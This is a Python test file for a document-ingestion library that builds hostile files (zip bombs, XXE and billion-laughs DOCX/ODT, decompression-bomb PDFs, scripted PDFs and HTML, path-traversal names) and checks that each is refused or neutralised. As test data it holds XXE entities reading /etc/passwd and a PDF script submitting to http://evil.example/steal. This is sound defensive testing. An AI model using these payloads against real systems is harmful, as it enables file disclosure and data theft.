"""A hostile corpus, generated here: every file gets a clear IngestError or safe output, fast.

Slow-by-design files (decompression bombs, endless OCR) go through ``extract_isolated`` with
short limits, so that a regression shows up as a failed test rather than a hung test run.
"""

from __future__ import annotations

import subprocess
import sys
import zipfile

import pytest

from kansenaudit.ingest import IngestError, Limits, extract, extract_isolated, is_canonical
from tests.ingest.hostile import (
    CONTENT_TYPES,
    billion_laughs_docx,
    deflate_bomb_pdf,
    deflate_zeros,
    docx,
    docx_xml,
    javascript_pdf,
    lying_zip_docx,
    many_pages_pdf,
    odt,
    odt_content,
    paragraphs,
    png_bytes,
    random_blob,
    raw_zip,
    reportlab_pdf,
    xxe_docx,
    zip_bomb_docx,
    zip_bomb_odt,
)

GIB = 1024**3


@pytest.fixture(scope="module")
def gigabyte_of_zeros():
    """1 GiB of zeros as one deflate stream (~1 MB), built once for all bombs below."""
    return deflate_zeros(GIB)


def refused(code, call, *args, **kwargs):
    with pytest.raises(IngestError) as caught:
        call(*args, **kwargs)
    assert caught.value.code == code, str(caught.value)
    assert str(caught.value).startswith("Het bestand ")
    return caught.value


# --- ZIP containers -------------------------------------------------------------------------------


@pytest.mark.parametrize("builder", [zip_bomb_docx, zip_bomb_odt])
def test_zip_bombs_are_refused_before_inflating(gigabyte_of_zeros, builder, monkeypatch):
    data = builder(gigabyte_of_zeros)
    assert len(data) < 2_000_000
    opened_sizes: list[int] = []
    original_open = zipfile.ZipFile.open

    def recording_open(self, name, *args, **kwargs):
        info = name if isinstance(name, zipfile.ZipInfo) else self.getinfo(name)
        opened_sizes.append(info.file_size)
        return original_open(self, name, *args, **kwargs)

    monkeypatch.setattr(zipfile.ZipFile, "open", recording_open)
    error = refused("zip-bomb", extract, data, "bom.docx")
    # Refused from the central directory: at most a tiny member (ODT's `mimetype`, read to tell
    # the format) was opened, never one of the inflating parts.
    assert all(size < 1_000 for size in opened_sizes), opened_sizes
    monkeypatch.undo()
    assert "1.024 MB" in error.detail
    refused("zip-bomb", extract_isolated, data, "bom.docx", timeout_s=20)


def test_high_compression_ratio_alone_is_a_bomb():
    zeros = deflate_zeros(20 * 1024 * 1024)  # under the total limit, but about 1000:1
    data = docx(docx_xml(paragraphs("x")), [("word/media/plaatje.bin", zeros)])
    assert "keer samengeperst" in refused("zip-bomb", extract, data, "x.docx").detail


def test_too_many_members():
    extra = [(f"word/media/{i}.bin", b"x") for i in range(30)]
    data = docx(docx_xml(paragraphs("x")), extra)
    refused("zip-bomb", extract, data, "x.docx", limits=Limits(max_zip_members=20))
    assert extract(data, "x.docx").pages[0].text == "x"


def test_zip_declaring_millions_of_entries_is_refused_before_opening():
    data = bytearray(docx(docx_xml(paragraphs("x"))))
    end = data.rfind(b"PK\x05\x06")
    data[end + 8 : end + 12] = b"\xfe\xff\xfe\xff"  # 65,534 entries claimed
    error = refused("zip-bomb", extract, bytes(data), "x.docx")
    assert "65.534 onderdelen" in error.detail


def test_member_that_lies_about_its_size_is_stopped():
    refused("corrupt", extract, lying_zip_docx(), "leugen.docx")


@pytest.mark.parametrize("builder", [xxe_docx, billion_laughs_docx])
def test_xml_entities_are_refused(builder):
    error = refused("xml-entities", extract, builder(), "entiteit.docx")
    assert "root:" not in str(error)


def test_xml_entities_in_odt_are_refused():
    content = odt_content("<text:p>&xxe;</text:p>").replace(
        b"<office:document-content",
        b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><office:document-content',
    )
    refused("xml-entities", extract, odt(content), "x.odt")


def test_encrypted_zip_member():
    data = bytearray(docx(docx_xml(paragraphs("x"))))
    # Set the "encrypted" flag bit of every entry (local and central headers).
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            data[start + offset] |= 1
            start += 4
    refused("encrypted", extract, bytes(data), "x.docx")


# --- PDF ------------------------------------------------------------------------------------------


def test_encrypted_pdf_is_refused():
    data = reportlab_pdf([["Vertrouwelijk"]], encrypt="geheim")
    refused("encrypted", extract, data, "vertrouwelijk.pdf")
    refused("encrypted", extract_isolated, data, "vertrouwelijk.pdf", timeout_s=20)


def test_pdf_with_only_an_owner_password_is_read():
    data = reportlab_pdf([["Openbaar stuk"]], encrypt="")
    assert extract(data, "x.pdf").pages[0].text == "Openbaar stuk"


@pytest.mark.parametrize("cut", [0.5, 0.9, 100, -30])
def test_truncated_pdf_is_corrupt(cut):
    full = reportlab_pdf([["Eerste pagina"], ["Tweede pagina"]])
    end = int(len(full) * cut) if isinstance(cut, float) else cut
    error = refused("corrupt", extract, full[:end], "afgebroken.pdf")
    assert "PDFium" in error.detail


def test_pdf_missing_only_its_end_marker_is_repaired_soundly():
    full = reportlab_pdf([["Eerste pagina"], ["Tweede pagina"]])
    document = extract(full[:-5], "bijna.pdf")
    assert [page.text for page in document.pages] == ["Eerste pagina", "Tweede pagina"]


def test_pdf_javascript_is_never_run():
    script = "app.alert('pwned'); this.submitForm('http://evil.example/steal');"
    data = javascript_pdf("Zichtbare tekst op de pagina", script)
    for document in (extract(data, "js.pdf"), extract_isolated(data, "js.pdf", timeout_s=20)):
        assert document.pages[0].text == "Zichtbare tekst op de pagina"
        assert "alert" not in document.pages[0].text


def test_pdf_that_lies_about_its_page_count():
    document = extract(many_pages_pdf(2, declared=100_000_000), "telling.pdf")
    assert document.page_count == 2


def test_pdf_with_too_many_pages():
    error = refused("too-many-pages", extract, many_pages_pdf(5001), "dik.pdf")
    assert "5.001 pagina's; maximaal 5.000" in str(error)


def test_pdf_decompression_bomb_is_stopped_by_isolation(gigabyte_of_zeros):
    data = deflate_bomb_pdf(gigabyte_of_zeros)
    with pytest.raises(IngestError) as caught:
        extract_isolated(data, "bom.pdf", memory_mb=512, timeout_s=20)
    assert caught.value.code in {"too-large", "timeout"}


def test_wall_clock_timeout_kills_slow_work(shared_data):
    path = shared_data / "documents" / "plooi_officielepublicaties" / "blg-1007826_scanned.pdf"
    refused("timeout", extract_isolated, path.read_bytes(), path.name, timeout_s=1)


def test_child_that_cannot_get_memory_is_reported_not_crashed():
    with pytest.raises(IngestError) as caught:
        extract_isolated(reportlab_pdf([["x"]]), "x.pdf", memory_mb=40, timeout_s=20)
    assert caught.value.code == "too-large"


# --- HTML -----------------------------------------------------------------------------------------


def test_html_scripts_handlers_and_entities_never_reach_the_text():
    html = b"""<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<html><head><title>T</title><script>alert("kop")</script>
<link rel="stylesheet" href="http://evil.example/x.css"></head>
<body onload="alert('onload')"><p onclick="steal()">Zichtbaar &xxe; deel</p>
<script>document.write("geheim")</script><style>p{color:red}</style>
<noscript>noscript-tekst</noscript><iframe src="http://evil.example">iframe-tekst</iframe>
<object data="x.swf">object-tekst</object><template>sjabloon</template>
<svg><script>alert(2)</script><text>svg-tekst</text></svg>
<img src="x" onerror="alert(1)" alt="Logo gemeente"><!-- commentaar --></body></html>"""
    text = extract(html, "pagina.html").pages[0].text
    assert text == "Zichtbaar &xxe; deel\nLogo gemeente"
    for bad in ("alert", "geheim", "color", "noscript", "iframe", "object", "sjabloon", "root:"):
        assert bad not in text


def test_deeply_nested_html_does_not_crash():
    data = b"<html><body>" + b"<div>" * 100_000 + b"diep" + b"</div>" * 100_000 + b"</body></html>"
    document = extract(data, "diep.html")
    assert all(is_canonical(page.text) for page in document.pages)


# --- names, encodings, junk -----------------------------------------------------------------------


def test_path_traversal_file_names():
    document = extract(b"Gewone tekst", "../../etc/passwd")
    assert document.file_name == "passwd"
    assert document.format == "text"
    document = extract(docx(docx_xml(paragraphs("Nota"))), "C:\\evil\\x.docx")
    assert (document.file_name, document.format) == ("x.docx", "docx")
    assert extract(b"x", "\x00\n").file_name == "document"


@pytest.mark.parametrize(
    ("data", "expected_warning"),
    [
        ("Geëvalueerd: één café".encode("cp1252"), True),
        ("Geëvalueerd: één café".encode("utf-16"), False),
        ("Geëvalueerd: één café".encode("utf-16-le"), False),
        ("Geëvalueerd: één café".encode(), False),
    ],
)
def test_wrong_and_unusual_encodings(data, expected_warning):
    document = extract(data, "notitie.txt")
    assert document.pages[0].text == "Geëvalueerd: één café"
    assert any("Windows-1252" in w for w in document.warnings) is expected_warning


@pytest.mark.parametrize("call", [extract, extract_isolated])
def test_empty_file(call):
    refused("empty", call, b"", "leeg.pdf")


def test_random_blob_and_disguised_png():
    refused("unsupported", extract, random_blob(), "data.pdf")
    error = refused("unsupported", extract, png_bytes(), "notities.txt")
    assert "PNG" in str(error)
    assert "notities.txt" in str(error)


def test_too_large_is_refused_before_parsing():
    refused("too-large", extract, b"x" * 2000, "groot.txt", limits=Limits(max_bytes=1000))
    refused("too-large", extract_isolated, b"x" * 2000, "x.txt", limits=Limits(max_bytes=1000))


def test_docx_that_is_really_text_is_text():
    document = extract(b"Dit is geen Word-bestand.", "nep.docx")
    assert document.format == "text"


def test_no_django_anywhere_in_ingest():
    modules = [
        "kansenaudit.ingest",
        "kansenaudit.ingest.canonical",
        "kansenaudit.ingest.extract",
        "kansenaudit.ingest.html",
        "kansenaudit.ingest.limits",
        "kansenaudit.ingest.metadata",
        "kansenaudit.ingest.model",
        "kansenaudit.ingest.office",
        "kansenaudit.ingest.pdf",
        "kansenaudit.ingest.sniff",
        "kansenaudit.ingest.text",
        "kansenaudit.ingest.worker",
    ]
    code = (
        f"import importlib, sys; [importlib.import_module(m) for m in {modules!r}]; "
        "print(sorted(m for m in sys.modules if m.split('.')[0] == 'django'))"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=True
    )
    assert result.stdout.strip() == "[]"


def test_content_types_helper_is_valid_xml():
    # The generated DOCX files above are only meaningful if their parts are well-formed.
    from xml.etree import ElementTree

    ElementTree.fromstring(CONTENT_TYPES)  # noqa: S314 - our own constant
    raw_zip([("a", b"b")])
